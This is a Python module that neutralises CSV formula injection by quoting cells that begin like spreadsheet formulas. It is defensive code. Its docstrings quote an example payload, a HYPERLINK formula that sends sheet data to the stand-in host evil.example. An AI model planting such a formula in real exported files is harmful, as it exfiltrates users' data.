"""Cells written to CSV/TSV files that a spreadsheet will open: formula injection neutralised.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://evil.example/?x="&A1,
"click")`` sends the sheet's data away on a click). Notes, comments, query texts and suggestion
texts come from users and imported files, so every CSV/TSV writer of the project passes its
cells through :func:`safe_cell`, as OWASP's "CSV Injection" page advises: such a cell gets a
leading single quote, which spreadsheets show as text and never evaluate. A plain number
(``-0.25``, ``+3``, ``-1e-3``) is left as it is: spreadsheets read it as a number, not a formula.

Writers: :class:`SafeDictWriter` (a :class:`csv.DictWriter` whose rows are neutralised) and
:func:`safe_frame` (a pandas frame's text cells, before ``to_csv``).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

__all__ = ["FORMULA_STARTS", "SafeDictWriter", "safe_cell", "safe_frame", "safe_row"]

#: First characters that make a spreadsheet cell a formula (OWASP, CSV Injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet shows it without running it: text that starts like a formula
    gets a leading ``'``; numbers, None and other text are returned unchanged.

    Example::

        safe_cell('=HYPERLINK("http://evil.example","x")')  # "'=HYPERLINK(...)"
        safe_cell("-0.25")                                   # "-0.25" (a number)
    """
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _NUMBER.match(value):
        return value
    return "'" + value


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """A row with every cell passed through :func:`safe_cell`."""
    return {key: safe_cell(value) for key, value in row.items()}


class SafeDictWriter(csv.DictWriter):
    """A :class:`csv.DictWriter` that neutralises formula cells (the header too: ``writeheader``
    goes through :meth:`writerow`)."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow(safe_row(rowdict))

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


def safe_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame whose text cells (and column names) are neutralised."""
    from pandas.api.types import is_numeric_dtype

    out = frame.copy()
    for column in out.columns:
        if not is_numeric_dtype(out[column]):
            out[column] = out[column].map(safe_cell)
    out.columns = [safe_cell(str(c)) for c in out.columns]
    return out
